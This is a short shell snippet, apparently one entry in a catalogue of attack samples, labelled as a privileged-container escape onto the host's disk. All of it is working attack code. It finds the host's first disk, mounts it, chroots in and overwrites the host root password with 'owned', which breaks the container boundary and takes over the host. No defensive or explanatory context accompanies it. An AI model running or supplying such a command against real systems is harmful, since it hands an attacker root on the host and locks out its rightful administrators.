# class: escape, the host's disk; style: privileged container
d=$(lsblk -rno NAME,TYPE | awk '$2=="disk"{print "/dev/"$1; exit}')
mkdir -p /mnt/h && mount ${d}1 /mnt/h && chroot /mnt/h /bin/bash -c "echo 'root:owned' | chpasswd"
